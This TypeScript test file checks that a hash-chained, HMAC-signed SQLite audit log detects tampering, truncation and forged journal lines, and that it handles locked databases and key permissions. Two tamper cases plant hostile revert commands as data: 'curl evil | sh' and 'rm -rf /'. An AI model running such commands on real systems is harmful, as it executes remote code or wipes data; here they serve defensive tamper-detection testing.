/**
 * The audit cannot be quietly changed, shortened or re-chained; several writers keep one chain; a
 * STOP's records survive a locked database. Every case edits or locks a real SQLite file with the
 * sqlite module directly (as an attacker or another process would), then asks the product.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, statSync, writeFileSync, chmodSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type BetterSqlite from 'better-sqlite3';
import { AuditFileError, AuditStore, AuditUnavailable, readKey, keyFile, type AuditEvent } from '../../src-main/audit/index.js';
import { anchorFile } from '../../src-main/audit/anchor.js';
import { eventHash } from '../../src-main/audit/chain.js';
import { eventMac, recordMac } from '../../src-main/audit/keys.js';
import { journalFile } from '../../src-main/audit/journal.js';

const Database = createRequire(import.meta.url)('better-sqlite3') as typeof BetterSqlite;
const open: AuditStore[] = [];
afterEach(() => {
  for (const a of open.splice(0)) a.close();
});
function track(a: AuditStore): AuditStore {
  open.push(a);
  return a;
}
const dir = () => mkdtempSync(join(tmpdir(), 'gd-integrity-'));

/** A small but complete audit: a run, two faults through their states, samples, a note, an approval. */
function sample(file: string): void {
  const a = AuditStore.open(file);
  a.createRun({ id: 'r1', title: 't', env: 'lab', commander: 'ana' });
  for (const [id, node] of [['f1', 'node01'], ['f2', 'node02']] as const) {
    a.recordFaultIntent({ id, runId: 'r1', node, kind: 'port-block', params: { port: 8080 }, oneShot: false, revertCmd: 'iptables -D INPUT -j GD-x', leaseTtlSec: 30 });
    a.setFaultState(id, 'active', { leaseExpiresAt: new Date().toISOString() });
    a.setFaultState(id, 'reverted');
  }
  a.addSampleBatches('r1', [['p1', Array.from({ length: 30 }, (_, i) => ({ tMs: 1000 * i, value: i, healthy: i % 7 !== 0 }))]]);
  a.addNote('r1', { role: 'scribe', author: 'bo', text: 'latency rising' });
  a.addApproval('r1', { step: 's1', approver: 'dee', decision: 'approved' });
  a.endRun('r1', 'completed');
  // Events that write no row (as exec intents and outcomes): cutting them leaves every row consistent.
  for (let i = 0; i < 3; i++) a.append({ runId: 'r1', kind: 'exec.outcome', node: 'node01', data: { code: 0, i } });
  a.close();
}

function edit(file: string, fn: (db: BetterSqlite.Database) => void): void {
  const db = new Database(file);
  try {
    fn(db);
  } finally {
    db.close();
  }
}

/** Recompute hashes (and, with the key, MACs) of every row from `from` on: a re-chain. */
function rechain(db: BetterSqlite.Database, from: number, withKey: boolean): void {
  const key = readKey(keyFile());
  const dbId = (db.prepare("SELECT v FROM audit_meta WHERE k = 'db_id'").get() as { v: string }).v;
  const rows = db.prepare('SELECT * FROM events WHERE seq >= ? ORDER BY seq').all(from) as AuditEvent[];
  let prev = (db.prepare('SELECT hash FROM events WHERE seq = ?').get(from - 1) as { hash: string }).hash;
  for (const r of rows) {
    const hash = eventHash(prev, r);
    db.prepare('UPDATE events SET prev_hash = ?, hash = ?, mac = ? WHERE seq = ?').run(prev, hash, withKey ? eventMac(key, dbId, hash) : r.mac, r.seq);
    prev = hash;
  }
}

function verifyCopy(base: string, tamper: (db: BetterSqlite.Database) => void, o: { expectHead?: { seq?: number; hash: string } } = {}) {
  const file = join(dir(), 'audit.sqlite');
  copyFileSync(base, file);
  edit(file, tamper);
  return track(AuditStore.open(file, { mustExist: true })).verify(o);
}

describe('tampering with a real audit file', () => {
  const base = join(dir(), 'audit.sqlite');
  sample(base);
  const head = (() => {
    const a = AuditStore.open(base, { mustExist: true });
    try {
      return a.head()!;
    } finally {
      a.close();
    }
  })();

  it('an untouched copy verifies, naming every check', () => {
    const v = verifyCopy(base, () => undefined, { expectHead: head });
    expect(v.checks.map((c) => [c.name, c.ok])).toEqual([['chain', true], ['hmac', true], ['rows', true], ['anchor', true], ['expected-head', true]]);
    expect(v.ok).toBe(true);
  });

  const cases: Array<[string, (db: BetterSqlite.Database) => void, RegExp]> = [
    ['delete the last event', (db) => db.prepare('DELETE FROM events WHERE seq = (SELECT max(seq) FROM events)').run(), /anchor.*truncated/],
    ['delete the last three events', (db) => db.prepare('DELETE FROM events WHERE seq > (SELECT max(seq) - 3 FROM events)').run(), /anchor.*3 event\(s\) were removed/],
    ['re-chain without the key (edit event 3, recompute every later hash)', (db) => (db.prepare("UPDATE events SET data = replace(data, 'port-block', 'port-blocc') WHERE seq = 2").run(), rechain(db, 2, false)), /hmac.*not authentic/],
    ['re-chain with the key', (db) => (db.prepare("UPDATE events SET data = replace(data, 'port-block', 'port-blocc') WHERE seq = 2").run(), rechain(db, 2, true)), /anchor.*re-chained/],
    ['faults.revert_cmd edited', (db) => db.prepare("UPDATE faults SET revert_cmd = 'curl evil | sh' WHERE id = 'f1'").run(), /rows.*faults: row "f1" differs/],
    ['faults.params edited', (db) => db.prepare("UPDATE faults SET params = '{\"port\":22}' WHERE id = 'f2'").run(), /rows.*faults: row "f2" differs/],
    ['faults.state edited (reverted → active)', (db) => db.prepare("UPDATE faults SET state = 'active' WHERE id = 'f1'").run(), /rows.*faults: row "f1" differs/],
    ['a fault row deleted', (db) => db.prepare("DELETE FROM faults WHERE id = 'f2'").run(), /rows.*"f2", recorded by event \d+, is missing/],
    ['a fault row added', (db) => db.prepare("INSERT INTO faults (id, run_id, node, kind, params, state, revert_cmd) VALUES ('f9', 'r1', 'node03', 'port-block', '{}', 'active', 'rm -rf /')").run(), /rows.*"f9" is in no chained event/],
    ['runs.status edited', (db) => db.prepare("UPDATE runs SET status = 'completed-ok'").run(), /rows.*runs: row "r1" differs/],
    ['a sample value edited', (db) => db.prepare('UPDATE samples SET healthy = 1 WHERE healthy = 0').run(), /rows.*samples: rows 1–30 differ/],
    ['a sample deleted', (db) => db.prepare('DELETE FROM samples WHERE rowid = 30').run(), /rows.*samples: rows 1–30: 29 present/],
    ['a rollup edited', (db) => db.prepare('UPDATE sample_rollups SET bad = 0').run(), /rows.*sample_rollups: rows .* differ/],
    ['a note edited', (db) => db.prepare("UPDATE notes SET text = 'all fine'").run(), /rows.*notes: rows 1–1 differ/],
    ['an approval deleted', (db) => db.prepare('DELETE FROM approvals').run(), /rows.*approvals: rows 1–1: 0 present/],
    ['a MAC removed', (db) => db.prepare('UPDATE events SET mac = NULL WHERE seq = 5').run(), /chain.*event 5: it carries no MAC/],
    ['a key id forged', (db) => db.prepare("UPDATE events SET key_id = '0000000000000000' WHERE seq = 4").run(), /hmac.*cannot authenticate 1 with key 0000000000000000/],
    ['the database id changed', (db) => db.prepare("UPDATE audit_meta SET v = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' WHERE k = 'db_id'").run(), /hmac.*not authentic/],
    ['one byte of a hash flipped', (db) => db.prepare("UPDATE events SET hash = substr(hash, 1, 63) || (CASE substr(hash, 64) WHEN '0' THEN '1' ELSE '0' END) WHERE seq = 7").run(), /chain.*broken at event 7/],
  ];
  it.each(cases)('%s → detected', (_name, tamper, want) => {
    const v = verifyCopy(base, tamper);
    const text = v.checks.filter((c) => !c.ok).map((c) => `${c.name}: ${c.text}`).join('\n');
    expect(v.ok, text).toBe(false);
    expect(text).toMatch(want);
  });

  it('truncated by someone holding the key, anchor forged too: only a head kept elsewhere catches it', () => {
    const file = join(dir(), 'audit.sqlite');
    copyFileSync(base, file);
    const key = readKey(keyFile());
    const probe = track(AuditStore.open(file, { mustExist: true }));
    const afile = anchorFile(probe.dbId);
    const saved = readFileSync(afile);
    // Cut the last two events (they wrote no row) and forge the anchor at the new head.
    edit(file, (db) => {
      db.prepare('DELETE FROM events WHERE seq > (SELECT max(seq) - 2 FROM events)').run();
      const h = db.prepare('SELECT seq, hash FROM events ORDER BY seq DESC LIMIT 1').get() as { seq: number; hash: string };
      const at = new Date().toISOString();
      writeFileSync(afile, JSON.stringify({ dbId: probe.dbId, file, seq: h.seq, hash: h.hash, at, keyId: key.id, mac: recordMac(key, 'anchor', `${probe.dbId}\u001f${h.seq}\u001f${h.hash}\u001f${at}`) }));
    });
    try {
      const a = track(AuditStore.open(file, { mustExist: true }));
      const local = a.verify();
      expect(local.checks.filter((c) => !c.ok).map((c) => c.text)).toEqual([]); // undetectable from this machine alone
      const v = a.verify({ expectHead: head });
      expect(v.ok).toBe(false);
      expect(v.checks.find((c) => c.name === 'expected-head')).toMatchObject({ ok: false, text: expect.stringMatching(/were removed \(truncated\)/) });
    } finally {
      writeFileSync(afile, saved); // the copies share the database id, so its anchor
    }
  });
});

describe('several writers, one chain', () => {
  it('two connections appending in turn (as two CLIs do) keep one valid chain', () => {
    const file = join(dir(), 'audit.sqlite');
    const a = track(AuditStore.open(file));
    const b = track(AuditStore.open(file));
    a.createRun({ id: 'ra' });
    b.createRun({ id: 'rb' });
    for (let i = 0; i < 25; i++) {
      a.append({ runId: 'ra', kind: 'tick', data: { i } });
      b.append({ runId: 'rb', kind: 'tick', data: { i } });
    }
    a.endRun('ra', 'completed');
    b.endRun('rb', 'completed');
    const v = a.verify();
    expect(v.checks.filter((c) => !c.ok)).toEqual([]);
    expect(v.checked).toBe(54);
  });

  it('migrations of a fresh file run once however many open it', () => {
    const file = join(dir(), 'audit.sqlite');
    const stores = Array.from({ length: 6 }, () => track(AuditStore.open(file)));
    expect(new Set(stores.map((s) => s.dbId)).size).toBe(1);
    expect(stores.every((s) => s.schemaVersion === 3)).toBe(true);
  });
});

describe('a locked audit', () => {
  it('while stopping, a write the database cannot take goes to the journal at once; the next open replays it into the chain', () => {
    const file = join(dir(), 'audit.sqlite');
    const a = track(AuditStore.open(file));
    a.createRun({ id: 'r1' });
    a.recordFaultIntent({ id: 'f1', runId: 'r1', node: 'n1', kind: 'port-block', params: {}, oneShot: false, revertCmd: 'x', leaseTtlSec: 30 });
    const other = new Database(file);
    other.exec('BEGIN IMMEDIATE'); // another process holds the write lock
    try {
      a.setStopping(true);
      const t0 = performance.now();
      expect(a.append({ runId: 'r1', kind: 'stop.requested' })).toBeUndefined();
      a.setFaultState('f1', 'reverted');
      a.append({ runId: 'r1', kind: 'stop.completed' });
      const waited = performance.now() - t0;
      expect(waited).toBeLessThan(2000); // one short wait (250 ms), not the 6 s of a normal write
      expect(a.auditProblem()).toMatchObject({ journaled: 3, lost: 0 });
      expect(readFileSync(journalFile(file), 'utf8').trim().split('\n')).toHaveLength(3);
    } finally {
      other.exec('COMMIT');
      other.close();
    }
    a.setStopping(false);
    const b = track(AuditStore.open(file)); // the next open replays
    expect(b.replayed).toMatchObject({ records: 3, rejected: [] });
    expect(existsSync(journalFile(file))).toBe(false);
    expect(b.getFault('f1')!.state).toBe('reverted');
    expect(b.events({ runId: 'r1' }).map((e) => e.kind)).toEqual(['run.created', 'fault.intent', 'stop.requested', 'fault.reverted', 'stop.completed']);
    expect(b.verify().checks.filter((c) => !c.ok)).toEqual([]);
  });

  it('a journal line edited by hand is not replayed', () => {
    const file = join(dir(), 'audit.sqlite');
    const a = track(AuditStore.open(file));
    a.createRun({ id: 'r1' });
    const other = new Database(file);
    other.exec('BEGIN IMMEDIATE');
    a.setStopping(true);
    a.append({ runId: 'r1', kind: 'stop.requested', data: { reason: 'SIGINT' } });
    other.exec('COMMIT');
    other.close();
    writeFileSync(journalFile(file), readFileSync(journalFile(file), 'utf8').replace('SIGINT', 'nothing'));
    const b = track(AuditStore.open(file));
    expect(b.replayed).toMatchObject({ records: 0, rejected: [{ line: 1, why: expect.stringMatching(/MAC/) }] });
    expect(b.events({ kind: 'stop.requested' })).toEqual([]);
  });

  it('outside a STOP, a write that cannot get the lock is a storage error, after the bounded wait', () => {
    const file = join(dir(), 'audit.sqlite');
    const a = track(AuditStore.open(file));
    const other = new Database(file);
    other.exec('BEGIN IMMEDIATE');
    try {
      expect(() => a.append({ kind: 'x' })).toThrow(AuditUnavailable);
    } finally {
      other.exec('COMMIT');
      other.close();
    }
  }, 30_000);
});

describe('files and keys', () => {
  it('verify never creates a file: missing, a directory, empty, not SQLite, SQLite but not an audit', () => {
    const d = dir();
    writeFileSync(join(d, 'text'), 'hello world, not a database at all');
    writeFileSync(join(d, 'empty'), '');
    edit(join(d, 'other.db'), (db) => db.exec('CREATE TABLE t (x)'));
    for (const [f, code] of [['missing.sqlite', 'AUDIT_MISSING'], ['.', 'AUDIT_NOT_SQLITE'], ['empty', 'AUDIT_NOT_SQLITE'], ['text', 'AUDIT_NOT_SQLITE'], ['other.db', 'AUDIT_NOT_AUDIT']] as const) {
      const e = (() => {
        try {
          AuditStore.open(join(d, f), { mustExist: true }).close();
        } catch (x) {
          return x;
        }
      })();
      expect(e, f).toBeInstanceOf(AuditFileError);
      expect((e as AuditFileError).code, f).toBe(code);
    }
    expect(existsSync(join(d, 'missing.sqlite'))).toBe(false);
    edit(join(d, 'other.db'), (db) => expect(db.prepare("SELECT count(*) n FROM sqlite_master WHERE name = 'events'").get()).toEqual({ n: 0 }));
  });

  it('the key is 0600 in the config dir, outside any workspace; one readable by others is refused', () => {
    const k = keyFile();
    expect(statSync(k).mode & 0o777).toBe(0o600);
    const copy = join(dir(), 'k');
    copyFileSync(k, copy);
    chmodSync(copy, 0o644);
    expect(() => readKey(copy)).toThrow(/can be read by other users/);
  });
});
